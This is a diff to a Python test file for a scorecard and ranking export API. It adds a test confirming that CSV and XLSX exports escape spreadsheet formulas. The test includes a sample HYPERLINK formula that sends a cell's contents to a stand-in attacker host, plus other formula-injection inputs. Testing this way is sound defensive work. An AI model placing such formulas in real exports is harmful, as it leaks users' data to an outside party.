@@ -66,7 +66,7 @@ def test_scorecards_xlsx_and_csv(api: TestClient, config: CriteriaConfig) -> Non
     lines = text.decode("utf-8-sig").splitlines()
     assert lines[0].startswith("Mã đơn vị,Tên đơn vị,Cấp")
     per_tier = {t: len(config.for_tier(t)) for t in Tier}
-    units = {Tier.PROVINCE_AGENCY: 4, Tier.DISTRICT: 2, Tier.COMMUNE: 1, Tier.ENTERPRISE: 2}
+    units = {Tier.PROVINCE_AGENCY: 4, Tier.DISTRICT: 3, Tier.COMMUNE: 1, Tier.ENTERPRISE: 2}
     assert len(lines) == 1 + sum(per_tier[t] * n for t, n in units.items())
 
 
@@ -117,3 +117,29 @@ def test_csv_excel_vn_dialect_and_integers(api: TestClient) -> None:
     assert c03[8:12] == ["60", "100", "0,6", "0,8"]
     bad = api.get("/v1/exports/rankings.csv", params={**params, "dialect": "semicolon"})
     assert bad.status_code == 422
+
+
+PAYLOAD = '=HYPERLINK("http://attacker.example/?x="&B2,"Xem")'
+
+
+def test_exports_never_hold_a_formula() -> None:
+    """SPEC §7.3: a unit name sent as a formula is text in XLSX and quoted in CSV."""
+    import zipfile
+
+    from services.api.exports import RANKING_COLUMNS, to_csv
+    from services.api.exports_safe import csv_cell
+    from services.api.xlsx import table_book
+
+    row = [1, "P9", PAYLOAD, "+cmd", -1.5, 3, 4, "@SUM(A1)", None, None]
+    text = to_csv(RANKING_COLUMNS, [row]).decode("utf-8-sig")
+    cells = next(iter(list(csv.reader(io.StringIO(text)))[1:]))
+    assert cells[2] == "'" + PAYLOAD and cells[3] == "'+cmd" and cells[7] == "'@SUM(A1)"
+    assert cells[4] == "-1.5"  # numbers stay numbers
+    assert [csv_cell(v) for v in ("-x", "\tx", "\rx", "ok", 5)] == ["'-x", "'\tx", "'\rx", "ok", 5]
+
+    book = table_book("t", RANKING_COLUMNS, [row])
+    with zipfile.ZipFile(io.BytesIO(book)) as archive:
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
+    values = list(load_workbook(io.BytesIO(book)).active.iter_rows(values_only=True))
+    assert values[1][2] == PAYLOAD and values[1][3] == "+cmd"
